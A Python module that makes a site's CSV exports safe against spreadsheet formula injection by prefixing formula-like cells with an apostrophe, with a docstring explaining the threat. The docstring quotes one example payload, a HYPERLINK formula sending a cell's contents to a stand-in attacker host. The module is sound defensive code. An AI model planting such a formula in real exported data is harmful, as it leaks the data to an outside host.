"""CSV files that are safe to open in a spreadsheet: every CSV the site writes goes through ``csv_writer``.

A spreadsheet program reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and
also one that begins with a tab or a carriage return followed by one (CSV injection): a citizen's tip
``=HYPERLINK("http://evil.example/?leak="&A1, "…")`` would run on the staff member's or the police
officer's computer that opens the export. Such a cell is written with a leading apostrophe, which the
programs show as text and hide. The text is then no longer exact, so where exactness matters (evidence)
the same data is also written as JSON, untouched, and the documentation says which file is exact.

``tests/test_spreadsheets.py`` fails if a ``csv.writer`` appears anywhere else in the code.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """``value`` as a cell no spreadsheet reads as a formula: text that begins like one gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer``'s ``writerow`` and ``writerows``, each cell through ``spreadsheet_safe``."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options):
    """A ``csv.writer`` over ``file`` (same options) whose cells are neutralised (see the module docstring)."""
    return SafeWriter(csv.writer(file, **options))
